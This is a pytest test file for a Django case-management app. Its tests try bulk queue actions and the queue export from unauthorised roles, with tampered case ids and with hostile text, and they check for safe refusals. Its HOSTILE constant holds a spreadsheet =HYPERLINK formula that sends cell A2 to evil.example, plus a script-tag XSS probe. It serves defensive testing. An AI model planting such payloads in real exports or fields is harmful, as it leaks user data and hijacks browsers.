# ruff: noqa: E501  (each test's docstring is one line: the attack and the safe behaviour)
"""Queue bulk work, the queue export, shared saved views and the notifications, tried from outside: other roles and
units, tampered selections, hostile text, another user's notifications, the admin site as a second door. Each test
asserts the safe behaviour; a refused request also leaves everything as it was."""

import csv
import io

import openpyxl
import pytest
from django.contrib.auth.models import Permission
from django.test import Client
from django.urls import reverse

from accounts import services as account_services
from accounts.models import Role, SavedQueueFilter
from cases import services
from cases.choices import CaseStatus, EventKind, NoteVisibility
from cases.models import Case, CaseEvent, Notification, NotificationPreference
from tests.api.conftest import token_client
from tests.conftest import reauthenticated
from tests.factories import case_in, draft, member

pytestmark = pytest.mark.django_db
S = CaseStatus
BULK = "/queue/bulk/"
HOSTILE = '=HYPERLINK("http://evil.example/?"&A2,"x")<script>alert(1)</script>\u202e'


def page(user) -> Client:
    client = Client(raise_request_exception=False)
    client.force_login(user)
    return client


def seen(*cases: Case) -> list[str]:
    return [f"{c.pk}:{c.version}" for c in cases]


def snapshot(case: Case) -> tuple:
    case.refresh_from_db()
    return (case.status, case.version, case.assigned_to_id, case.events.count())


# --- bulk: who and what -----------------------------------------------------------------------------------------------


def test_an_officer_cannot_use_bulk_work_or_the_export(world):
    """An officer posts a bulk note on their own case and asks for the queue export: 403 both, nothing written."""
    case = case_in(world, S.INTAKE)
    before = snapshot(case)
    client = page(world.officer)
    response = client.post(
        BULK, {"action": "note", "case": seen(case), "text": "x", "visibility": "shared", "apply": "1"}
    )
    assert response.status_code == 403
    assert client.get("/queue/export/?format=csv").status_code == 403
    assert snapshot(case) == before


def test_a_sibling_supervisor_cannot_act_on_cases_outside_their_tree_nor_on_drafts(world):
    """A supervisor of the other province posts a bulk note on a case of this province and on a draft: 404, the same words for each, nothing written."""
    case, own_draft = case_in(world, S.INTAKE), draft(world)
    before = snapshot(case), snapshot(own_draft)
    response = page(world.sibling_supervisor).post(
        BULK,
        {"action": "note", "case": seen(case, own_draft), "text": "看到了", "visibility": "internal", "apply": "1"},
    )
    assert response.status_code == 404
    assert [o.reason for o in response.context["outcomes"]] == [
        "This case is not in your queue, or does not exist."
    ] * 2
    assert (snapshot(case), snapshot(own_draft)) == before


@pytest.mark.parametrize(
    "value",
    [
        "abc:1",
        "-1:1",
        "1:-1",
        "1:",
        ":1",
        "1" * 13 + ":1",
        "1:" + "9" * 10,
        "\u00b2:1",
        "1:\u00b2",
        "\u0663:1",
        "\uff11:1",
        "1\x00:1",
        "1 :1",
    ],
)
def test_a_tampered_selection_is_a_clear_refusal_never_an_error(world, value):
    """Non-numeric, negative, huge, Unicode-digit (superscript, Arabic-Indic, full-width) or NUL-bearing ids: 400 with the queue page's message, nothing written."""
    case = case_in(world, S.INTAKE)
    before = snapshot(case)
    response = page(world.supervisor).post(
        BULK, {"action": "note", "case": [value, *seen(case)], "text": "x", "visibility": "internal", "apply": "1"}
    )
    assert response.status_code == 400
    assert "The selection was not sent by the queue page. Select the cases again." in response.content.decode()
    assert snapshot(case) == before
